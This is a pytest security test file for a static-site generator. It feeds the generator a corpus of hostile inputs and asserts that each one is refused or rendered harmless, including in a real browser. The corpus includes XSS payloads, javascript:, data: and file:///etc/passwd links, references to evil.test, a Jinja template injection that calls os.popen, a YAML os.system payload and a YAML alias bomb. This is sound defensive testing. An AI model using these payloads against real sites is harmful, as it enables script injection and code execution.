"""What hostile contributions come to: refused by the check, or inert in every output. Nothing is fetched or run.

The corpus is laid on two ways: through the front door, where the check refuses most of it, and past the check, straight
into the views, to see that the pages would hold even if a rule were missing.
"""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from playwright.sync_api import Browser

from conftest import serving
from practicebook.content.markdown import line_html, section_html
from practicebook.diagnostics.diagnostic import Severity
from practicebook.exports.registry import OUTPUTS
from practicebook.project import Project
from site_test import SiteTest
from small_project import FRONT, REPOSITORY, SECTIONS, SmallProject

_ASSETS = REPOSITORY / "overrides" / "assets"
_FIRST = (_ASSETS / "first.js").read_text(encoding="utf-8")
_MODULES = "|".join(path.stem for path in (_ASSETS / "js").glob("*.js"))
TITLE = "x<img src=x onerror=alert(1)>"
BODIES = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=https://evil.test/x.js></sCrIpT>",
    "handler": "<p onclick=alert(1)>tekst</p>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "iframe": "<iframe src=https://evil.test/></iframe>",
    "style": "<style>body{background:url(https://evil.test/)}</style>",
    "form": "<form action=https://evil.test/><input name=a></form>",
    "base": "<base href=https://evil.test/>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "javascript link": "[vajuta](javascript:alert(1))",
    "javascript link with entities": "[vajuta](&#106;avascript:alert(1))",
    "javascript link with a tab": "[vajuta](java\tscript:alert(1))",
    "data link": "[vajuta](data:text/html,<script>alert(1)</script>)",
    "file link": "[vajuta](file:///etc/passwd)",
    "protocol-relative link": "[vajuta](//evil.test/)",
    "remote picture": "![pilt](https://evil.test/x.png)",
    "remote picture by reference": "![pilt][a]\n\n[a]: https://evil.test/x.png",
    "local picture": "![pilt](../../settings/owner.yml)",
    "jinja": "{{ 7*7 }} {% for x in [1] %}y{% endfor %} {# z #}",
    "jinja reaching for a shell": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "snippet": '--8<-- "mkdocs.yml"',
    "attribute list": "tekst\n{: onclick=alert(1) }",
    "closing our elements": "</div></section></main><h1>Võlts</h1>",
    "comment": "<!-- <script>alert(1)</script> -->",
    "citation in an address": '[a](https://x.test/[@s1]"onmouseover=alert(1)) [@s1](javascript:alert(1))',
    "our own marks as entities": "[a](https://x.test/&#xE000;s1&#xE001;) &#57344;s1&#57345;",
    "citation in a reference": '[a][b] ja tekst\n\n[b]: https://x.test/[@s1]"onclick=alert(1)',
    "autolink": "<javascript:alert(1)>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "half a tag": "<img src=x onerror=alert(1)//",
    "null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
}
ALIAS_BOMB = (
    "---\n"
    + "\n".join(
        [f"a0: &a0 [{', '.join(['x'] * 9)}]", *(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9))]
    )
    + "\n---\n\n## Probleem\n\nx\n"
)


def _cite(source: str) -> str:
    return f'<sup class="cite"><a href="#source-{source}">1</a></sup>'


def _active(html: str) -> list[str]:
    """Everything in `html` that could run, load or lead astray."""
    soup = BeautifulSoup(html, "html.parser")
    found = [
        str(tag)[:80]
        for tag in soup.select("script, style, iframe, object, embed, form, base, meta, img, svg, input, math")
    ]
    for tag in soup.find_all(True):
        found += [
            f"{tag.name} {name}={value}"
            for name, value in tag.attrs.items()
            if name.startswith("on") or name == "style"
        ]
        address = tag.get("href") or tag.get("src") or ""
        if address and not address.startswith(("https://", "#")):
            found.append(f"{tag.name} {address}")
    return found


@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES.keys())
def test_markdown_comes_out_inert(body: str) -> None:
    html = section_html(f"Enne.\n\n{body}\n\nPärast.", _cite)
    assert _active(html) == []
    assert "{" not in html
    assert "}" not in html
    assert "Enne." in html
    assert "Pärast." in html


@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES.keys())
def test_a_line_comes_out_as_text(body: str) -> None:
    html = line_html(body.replace("\n", " "), _cite)
    assert _active(html.replace(_cite("s1"), "")) == []
    assert "{" not in html


@pytest.mark.parametrize(
    "name",
    sorted(
        set(BODIES)
        - {
            "attribute list",
            "citation in an address",
            "protocol-relative link",
            "our own marks as entities",
            "citation in a reference",
        }
    ),
)
def test_the_check_refuses_the_body(tmp_path: Path, name: str) -> None:
    sections = {**SECTIONS, "problem": f"{SECTIONS['problem']}\n\n{BODIES[name]}"}
    project = Project.load(SmallProject(tmp_path).with_entry("supipaev", sections=sections).root)
    errors = [item for item in project.diagnostics if item.severity is Severity.ERROR]
    assert errors
    assert all(item.path == "practices/supipaev.md" and item.line for item in errors)


@pytest.mark.parametrize(
    "file",
    [
        ALIAS_BOMB,
        "---\ntitle: !!python/object/apply:os.system [id]\n---\n\n## Probleem\n\nx\n",
        "---\ntitle: a\ntitle: b\n---\n\n## Probleem\n\nx\n",
        "---\n" + "a: [" * 400 + "]" * 400 + "\n---\n",
        "---\ntitle: " + "x" * 70_000 + "\n---\n",
        "\x00\x01\x02",
    ],
    ids=["alias bomb", "python object", "same key twice", "deep nesting", "too large", "no text"],
)
def test_the_reader_refuses_the_file(tmp_path: Path, file: str) -> None:
    project = Project.load(SmallProject(tmp_path).with_file("practices/pomm.md", file).root)
    assert project.errors
    assert len(project.catalogue) == 0


@pytest.mark.parametrize(
    "key", ["render_macros: true", "template: ../mkdocs.yml", "hide: [navigation]", "status: new\n__class__: x"]
)
def test_keys_for_the_generator_are_refused(tmp_path: Path, key: str) -> None:
    project = SmallProject(tmp_path).with_entry("supipaev")
    project.with_change("practices/supipaev.md", "---\ntitle:", f"---\n{key}\ntitle:")
    assert Project.load(project.root).errors


def test_a_failed_build_leaves_the_last_site_as_it_was(tmp_path: Path) -> None:
    site = SiteTest(tmp_path).with_entry("supipaev").build()
    before = site.files("site")
    site.with_change("practices/supipaev.md", "coverage: county", "coverage: maakont").build(succeeds=False)
    assert site.files("site") == before
    assert "practices/supipaev.md" in site.output
    assert "maakont" in site.output
    assert "Traceback" not in site.output


BLINDFOLD = "import practicebook.project\n\npracticebook.project.findings = lambda subject: iter(())\n"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> SiteTest:
    """A site that took the whole corpus with its checks blindfolded: only the rendering protects its pages."""
    site = SiteTest(tmp_path_factory.mktemp("hostile"))
    site.with_file("hooks/blindfold.py", BLINDFOLD)
    site.with_change("mkdocs.yml", "  - hooks/publish.py", "  - hooks/blindfold.py\n  - hooks/publish.py")
    bodies = "\n\n".join(body for name, body in BODIES.items() if name != "null")
    hostile = '"><b>x</b><script>alert(1)</script>{{ 7*7 }}'
    site.with_entry("supipaev").with_entry(
        "vaenulik",
        title=TITLE,
        summary=f"Lühikokkuvõte {hostile} ja veel natuke sõnu.",
        organisation={"name": f"A & B {hostile}", "type": "association"},
        partners=[hostile, "'; alert(1); '"],
        funders=[hostile],
        municipalities=[hostile],
        novelty=hostile,
        evidence={"level": "0", "finding": "unknown", "reason": hostile},
        people=hostile,
        steps=[hostile],
        cost_yearly={"band": "1-5", "note": hostile},
        sections={**SECTIONS, "problem": bodies, "lessons": bodies},
        is_translated=False,
    )
    return site.build()


def foreign_scripts(soup: BeautifulSoup) -> list[str]:
    """The scripts of a page that are not ours: neither a module of `assets/` nor, to the letter, the first script."""
    return [
        str(script)
        for script in soup.select("script")
        if not re.fullmatch(rf"(?:\.?\./|/)*assets/(?:{_MODULES})\.[0-9a-f]{{10}}\.js", script.get("src", ""))
        and script.string != _FIRST
    ]


def test_no_output_carries_anything_active(hostile_site: SiteTest) -> None:
    for name, content in hostile_site.files("site").items():
        assert any(output.answers_for(name) for output in OUTPUTS), name
        if not name.endswith((".html", ".xml", ".txt", ".svg", ".json")):
            continue
        text = content.decode()
        assert "<img" not in text, name
        assert "<b>x" not in text, name
        assert ">49<" not in text, name
        if name.endswith(".html"):
            soup = BeautifulSoup(text, "html.parser")
            assert foreign_scripts(soup) == [], name
            assert not [attr for tag in soup.find_all(True) for attr in tag.attrs if attr.startswith("on")], name
            assert not soup.select("iframe, object, embed, base, style, meta[http-equiv=refresh]"), name
            for link in soup.select("[href], [src]"):
                scheme = (link.get("href") or link.get("src")).partition(":")[0].lower()
                assert scheme not in {"javascript", "data", "file", "vbscript"}, (name, str(link)[:100])


@pytest.fixture
def hostile_address(hostile_site: SiteTest) -> Iterator[str]:
    with serving(hostile_site.folder) as address:
        yield address


def test_nothing_runs_and_nothing_is_fetched_in_a_browser(browser: Browser, hostile_address: str) -> None:
    page = browser.new_context().new_page()
    asked: list[str] = []
    ran: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    for address in (
        "",
        "praktikad/",
        "praktikad/?q=alert",
        "praktikad/vaenulik/",
        "en/practices/vaenulik/",
        "404.html",
    ):
        page.goto(hostile_address + address)
        page.wait_for_load_state("networkidle")
    assert ran == []
    assert [url for url in asked if not url.startswith((hostile_address, "data:"))] == []
    page.goto(hostile_address + "praktikad/vaenulik/")
    assert "onerror=alert(1)" in page.locator("h1").inner_text()
    page.context.close()


def test_the_policy_stops_a_script_that_got_in(browser: Browser, hostile_site: SiteTest, hostile_address: str) -> None:
    planted = hostile_site.folder / "planted.html"
    policy = hostile_site.page("praktikad/").select_one("meta[http-equiv]")
    planted.write_text(
        f"<head>{policy}</head><body><script>document.title='ran'</script><img src=x onerror=\"document.title='ran'\">"
        "<a id=a href=\"javascript:document.title='ran'\">a</a>"
    )
    page = browser.new_context().new_page()
    page.goto(hostile_address + "planted.html")
    page.click("#a")
    page.wait_for_timeout(200)
    assert page.title() != "ran"
    page.context.close()
    planted.unlink()


def test_the_title_of_the_issue_is_refused_or_text(tmp_path: Path) -> None:
    project = Project.load(SmallProject(tmp_path).with_entry("supipaev", title=TITLE, is_translated=False).root)
    refused = [item for item in project.errors if item.field == ("title",)]
    assert refused
    assert "<img" not in line_html(TITLE, _cite)
    assert FRONT["title"]
